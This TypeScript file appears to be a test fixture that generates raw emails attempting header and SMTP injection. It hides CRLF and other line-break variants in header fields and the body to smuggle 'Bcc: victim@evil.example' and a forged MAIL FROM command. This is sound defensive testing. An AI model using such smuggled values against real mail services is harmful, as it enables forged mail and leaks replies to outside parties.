/** Mails that try to put header fields, recipients or whole mails of their own into the answer they get. */

/** What is slipped in, by what stands before it. */
const BREAKS: Readonly<Record<string, string>> = {
  CRLF: '\r\n',
  LF: '\n',
  CR: '\r',
  'CRLF twice': '\r\n\r\n',
  'end of mail': '\r\n.\r\n',
  'line separator': '\u2028',
  'next line': '\u0085',
  NUL: '\0\r\n',
  'vertical tab': '\v',
  'escaped line end': '\\r\\n',
  'percent-encoded': '%0d%0a',
}

const SLIPPED = 'Bcc: victim@evil.example'

const encodedB = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
const encodedQ = (text: string): string =>
  `=?utf-8?Q?${[...Buffer.from(text)].map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('')}?=`

/** Where it is put; each becomes one mail for each break. */
const PLACES: Readonly<Record<string, (text: string) => Partial<Record<string, string>>>> = {
  'Subject, base64': (text) => ({ Subject: encodedB(text) }),
  'Subject, quoted-printable': (text) => ({ Subject: encodedQ(text) }),
  'Subject as it is': (text) => ({ Subject: text }),
  'name of the sender': (text) => ({ From: `${encodedB(text)} <ana@clinic.example>` }),
  'quoted name of the sender': (text) => ({ From: `"${text}" <ana@clinic.example>` }),
  'local part of the sender': (text) => ({ From: `"ana${text}"@clinic.example` }),
  'encoded address of the sender': (text) => ({ From: encodedB(`ana@clinic.example${text}`) }),
  'Reply-To': (text) => ({ 'Reply-To': `${encodedB(text)} <other@evil.example>` }),
  'Message-ID': (text) => ({ 'Message-ID': `<m1${text}@clinic.example>` }),
  References: (text) => ({ References: `<r1@clinic.example> <r2${text}@clinic.example>` }),
  'In-Reply-To': (text) => ({ 'In-Reply-To': `<r3${text}@clinic.example>` }),
  Date: (text) => ({ Date: `Thu, 5 Mar 2026 10:00:00 +0000 (${text})` }),
  To: (text) => ({ To: `${encodedQ(text)} <desk@desk.example>` }),
  'name of a file': (text) => ({
    'Content-Type': `text/plain; name="${encodedB(text)}"; charset=utf-8`,
    'Content-Disposition': `inline; filename*=utf-8''${encodeURIComponent(text)}`,
  }),
}

/** Each with a name that says what it tries. */
export function listInjectedMails(): { name: string; raw: Buffer }[] {
  let number = 0
  const mails = Object.entries(PLACES).flatMap(([place, put]) =>
    Object.entries(BREAKS).map(([how, signs]) => {
      number += 1
      return { name: `${place}: ${how}`, raw: compose(number, put(`Hello${signs}${SLIPPED}`), 'What is 99213?') }
    }),
  )
  const bodies = Object.entries(BREAKS).map(([how, signs]) => {
    number += 1
    const text = `What is 99213?${signs}.${signs}MAIL FROM:<desk@desk.example>${signs}${SLIPPED}`
    return { name: `text: ${how}`, raw: compose(number, {}, text) }
  })
  return [...mails, ...bodies]
}

function compose(number: number, fields: Partial<Record<string, string>>, text: string): Buffer {
  const header: Partial<Record<string, string>> = {
    From: 'Ana <ana@clinic.example>',
    To: 'desk@desk.example',
    Subject: 'What is 99213?',
    'Message-ID': `<injected-${number}@clinic.example>`,
    Date: 'Thu, 5 Mar 2026 10:00:00 +0000',
    ...fields,
  }
  const lines = Object.entries(header).map(([name, value]) => `${name}: ${value}`)
  return Buffer.from([...lines, '', text, ''].join('\r\n'))
}
